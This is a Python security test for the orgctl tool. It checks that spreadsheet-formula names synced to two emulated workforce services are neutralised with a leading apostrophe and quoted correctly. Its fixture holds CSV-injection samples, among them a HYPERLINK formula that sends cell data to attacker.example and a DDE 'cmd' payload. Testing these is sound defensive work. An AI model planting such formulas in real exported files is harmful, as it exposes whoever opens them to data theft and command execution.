"""Issue #6, CSV: names that a spreadsheet would run as formulas reach Workleap's sync files
and Worklete's memberships upload neutralised (a leading `'`), commas and quotes survive the
quoting, and the neutralised values are no drift: a second plan shows no changes."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from orgctl.sandbox import Sandbox
from tests.conftest import Sandboxes
from tests.security.conftest import Runner, base_env

HOSTILE = {
    "first_name": '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "last_name": "+cmd|' /C calc'!A0",
}
CONFIG = f"""\
version: 1
providers:
  workleap: {{url: "${{WORKLEAP_URL}}", api_key: "${{WORKLEAP_API_KEY}}"}}
  worklete:
    url: "${{WORKLETE_URL}}"
    username: "${{WORKLETE_USERNAME}}"
    password: "${{WORKLETE_PASSWORD}}"
    organization: Acme
teams:
  formula: {{name: "-2+3", members: [EMP-1, EMP-2, EMP-3]}}
employees:
  EMP-1:
    first_name: {json.dumps(HOSTILE["first_name"])}
    last_name: {json.dumps(HOSTILE["last_name"])}
    email: one@acme.example
  EMP-2: {{first_name: "@SUM(1+1)", last_name: 'O"Brien, Jr.', email: two@acme.example}}
  EMP-3: {{first_name: Ana, last_name: "-", email: three@acme.example}}
"""


@pytest.fixture
def box(sandboxes: Sandboxes) -> Sandbox:
    seed = {"workleap": {"integration": {"processing_delay": 0.01, "risk_threshold": None}}}
    return sandboxes.start(seed, options={"worklete": {"upload_delay": 0.01}})


def test_formula_cells_are_neutralised_and_quoted_end_to_end(box: Sandbox,
                                                             tmp_path: Path) -> None:
    (tmp_path / "org.yaml").write_text(CONFIG, encoding="utf-8")
    endpoints = box.endpoints()
    env = base_env(WORKLEAP_URL=endpoints["workleap"]["url"],
                   WORKLEAP_API_KEY=endpoints["workleap"]["api_key"],
                   WORKLETE_URL=endpoints["worklete"]["url"],
                   WORKLETE_USERNAME=endpoints["worklete"]["username"],
                   WORKLETE_PASSWORD=endpoints["worklete"]["password"])
    orgctl = Runner(tmp_path, env)
    orgctl("apply", "org.yaml", "--auto-approve")

    members = {m["externalMemberId"]: m for m in
               box.emulators["workleap"].snapshot()["members"].values()}
    assert members["EMP-1"]["firstName"] == "'" + HOSTILE["first_name"]
    assert members["EMP-1"]["lastName"] == "'" + HOSTILE["last_name"]
    assert members["EMP-2"]["firstName"] == "'@SUM(1+1)"
    assert members["EMP-2"]["lastName"] == 'O"Brien, Jr.'
    assert members["EMP-3"]["lastName"] == "'-"
    teams = box.emulators["workleap"].snapshot()["teams"].values()
    assert [t["teamName"] for t in teams] == ["'-2+3"]

    uploads = box.emulators["worklete"].snapshot()["uploads"].values()
    rows = [row for u in uploads
            for row in csv.DictReader(io.StringIO(u["content"], newline=""), strict=True)]
    by_email = {row["email"]: row for row in rows}
    assert by_email["one@acme.example"]["first_name"] == "'" + HOSTILE["first_name"]
    assert by_email["two@acme.example"]["last_name"] == 'O"Brien, Jr.'
    assert by_email["three@acme.example"]["last_name"] == "'-"
    assert not [cell for row in rows for cell in row.values()
                if cell and cell[0] in "=+-@\t\r"], "a cell a spreadsheet would evaluate"

    orgctl("plan", "org.yaml", "--detailed-exitcode")
